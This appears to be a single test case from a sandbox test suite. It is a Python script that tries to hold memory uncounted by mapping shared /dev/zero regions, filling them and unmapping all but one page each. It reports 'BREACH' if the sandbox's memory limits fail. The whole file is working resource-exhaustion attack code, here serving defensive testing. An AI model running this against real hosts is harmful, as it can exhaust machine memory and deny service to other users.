# attack: memory, by shared mappings of /dev/zero of which all but a page is let go
# wanted: OK
# after: the machine's memory is as before
# wall: the box's devices; Landlock; an empty root
# control: breach
import ctypes
import os

print("REACHED", flush=True)
PIECE, PAGE, SHARED = 16 << 20, 4096, 1
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
held = 0
try:
    zero = os.open("/dev/zero", os.O_RDWR)
    while held < 2 * @MEMORY@:
        area = libc.mmap(None, PIECE, 3, SHARED, zero, 0)
        if area == ctypes.c_void_p(-1).value:
            print("refused", ctypes.get_errno())
            break
        libc.memset(area, 1, PIECE)
        libc.munmap(area + PAGE, PIECE - PAGE)
        held += PIECE >> 20
    else:
        print("BREACH:", held, "MiB that no mapping counts", flush=True)
except OSError as error:
    print("refused", error.errno)
